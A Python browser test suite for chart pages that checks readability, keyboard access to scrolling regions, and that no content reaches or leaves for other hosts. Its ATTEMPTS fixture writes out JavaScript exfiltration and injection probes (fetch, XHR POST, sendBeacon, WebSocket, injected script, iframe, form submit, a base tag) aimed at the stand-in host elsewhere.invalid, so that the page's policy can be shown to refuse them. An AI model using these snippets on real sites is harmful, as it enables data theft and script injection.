"""What must hold of every page in a real browser: nothing leaves, all of it can be read and reached.

browsing.js    what is asked of the page itself
"""

from pathlib import Path
from urllib.parse import urlsplit

WIDE, PHONE = (1440, 900), (390, 844)
SCRIPT = Path(__file__).with_suffix(".js").read_text()
DRAWN = "[...document.querySelectorAll('[data-figure]')].every(place => place.querySelector('.xtick text'))"
ELSEWHERE = "https://elsewhere.invalid/"
ATTEMPTS = {
    "fetch": "fetch('URL').catch(() => 0), 0",
    "request": "(() => { const r = new XMLHttpRequest(); r.open('POST', 'URL'); r.send('all of it'); })()",
    "beacon": "navigator.sendBeacon('URL', 'all of it')",
    "socket": "(() => { try { new WebSocket('URL'.replace('https', 'wss')); } catch {} })()",
    "events": "new EventSource('URL'), 0",
    "image": "new Image().src = 'URL', 0",
    "script": "document.body.append(Object.assign(document.createElement('script'), { src: 'URL' }))",
    "style": "document.body.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'URL' }))",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), { src: 'URL' }))",
    "form": """(() => {
      const form = Object.assign(document.createElement('form'), { action: 'URL', method: 'post' });
      document.body.append(form);
      form.submit();
    })()""",
}
BASE = (
    f"document.head.append(Object.assign(document.createElement('base'), {{ href: '{ELSEWHERE}' }})), document.baseURI"
)


def look_at(browser, address, size=WIDE, theme="light"):
    """Open a page of charts on a screen, and wait until they are drawn."""
    browser.touch(size == PHONE)
    browser.theme(theme)
    browser.resize(*size, mobile=size == PHONE)
    browser.begin(address)
    browser.run(SCRIPT)
    browser.until(DRAWN)
    browser.run("browsing.pause(400)")


def assert_all_can_be_read(browser):
    """No words on others, none cut off, nothing wider than the screen, whatever is chosen to be shown."""
    choices = browser.run("document.querySelectorAll('.choose input').length")
    for choice in range(max(choices, 1)):
        if choices:
            browser.run(f"document.querySelectorAll('.choose input')[{choice}].click()")
            browser.run("browsing.pause(400)")
        assert browser.run("browsing.collisions()") == []
        assert browser.run("browsing.cut()") == []
        assert browser.run("document.documentElement.scrollWidth <= innerWidth")
    assert browser.complaints == []


def assert_keys_reach_what_scrolls(browser):
    """Every region that scrolls has a name and the keyboard's focus, and arrows move it."""
    assert browser.run("browsing.unreachable()") == []
    place = browser.run("[...document.querySelectorAll('.scroll')].findIndex(one => one.scrollWidth > one.clientWidth)")
    assert place >= 0, "nothing scrolls on this screen"
    region = f"document.querySelectorAll('.scroll')[{place}]"
    browser.run(f"{region}.focus()")
    browser.press("ArrowRight")
    browser.until(f"{region}.scrollLeft > 0")
    assert browser.run(f"getComputedStyle({region}).outlineStyle") == "solid"


def use_every_tool(browser):
    """Press every button of every chart's tool bar; returns what they are called."""
    browser.call("Page.setDownloadBehavior", behavior="deny")
    names = browser.run("[...document.querySelectorAll('.modebar-btn')].map(one => one.dataset.title)")
    browser.run("browsing.pressAll('.modebar-btn')")
    return names


def assert_stays_here(browser, home):
    """Nothing was asked of another host, no window was opened, and nothing in the page leads or sends elsewhere."""
    assert [url for url in browser.requests if not url.startswith((home, "blob:", "data:", "about:"))] == []
    assert browser.windows == []
    assert browser.run("browsing.doors()") == []
    targets = browser.call("Target.getTargets")["targetInfos"]
    assert [target["url"] for target in targets if target["type"] == "page"] == [browser.run("location.href")]


def assert_doors_are_shut(browser):
    """What a script would send, open or load from elsewhere is refused by the page itself."""
    here = browser.run("location.href")
    for name, attempt in ATTEMPTS.items():
        browser.run(attempt.replace("URL", ELSEWHERE + name))
    assert browser.run(f"window.open('{ELSEWHERE}window')") is None
    assert browser.run(BASE) == here
    browser.run("browsing.pause(500)")
    refused = " ".join(browser.complaints)
    assert [name for name in ATTEMPTS if name != "frame" and f"elsewhere.invalid/{name}" not in refused] == []
    assert "Framing" in refused  # the policy names the host alone
    assert [url for url in browser.sent.values() if urlsplit(url).hostname == "elsewhere.invalid"] == []
    assert browser.windows == []
    assert browser.run("location.href") == here
